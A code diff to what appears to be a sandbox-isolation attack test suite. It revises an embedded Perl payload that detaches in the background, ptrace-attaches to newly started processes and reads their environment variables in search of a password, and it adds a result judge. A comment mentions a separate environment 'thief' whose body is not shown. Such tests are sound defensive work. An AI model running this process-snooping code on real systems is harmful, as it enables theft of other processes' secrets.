@@ -6,6 +6,7 @@
 import type { Attack, Scene } from '../attack.ts'
 import { perl } from '../attack.ts'
 import { perlWords, shell } from '../scripts.ts'
+import { foundLines } from './start.ts'
 
 /** Perl: reads every environment that it may read, and sends what it has not sent yet. */
 const thief = `
@@ -67,10 +68,10 @@ time.sleep(0.4)
       perl(`
       use POSIX (); ${perlWords(scene)}
       fork or do { POSIX::setsid(); %ENV = (); chdir "/"; open STDOUT, ">", "/dev/null"; open STDERR, ">&STDOUT"; my $end = time + 15; my %known = map { $_ => 1 } glob("/proc/[0-9]*");
-        while (time < $end) { fork and exit; for (glob("/proc/[0-9]*")) { next if $known{$_}++; m{(\\d+)$}; say_out("FOUND traced-next $1") if syscall(101, 0x4206, $1, 0, 0) == 0 && $1 != $$ && open(my $f, "<", "$_/environ") && <$f> =~ /next-password/ } } exit 0 };
+        while (time < $end) { fork and exit; for my $p (glob("/proc/[0-9]*")) { next if $known{$p}++; my ($pid) = $p =~ m{(\\d+)$}; next if $pid == $$; next if syscall(101, 0x4206, $pid, 0, 0) != 0; open(my $f, "<", "$p/environ") or next; my $e = <$f>; say_out("FOUND traced-next $pid") if $e =~ /next-password/ } } exit 0 };
       select undef, undef, undef, 0.3;
     `),
-    { needs: ['x64'], lingers: true },
+    { needs: ['x64'], lingers: true, judge: foundLines },
   ),
   reused('litter-in-tmp', 'files and folders in every place where everyone may write', (scene) =>
     shell(
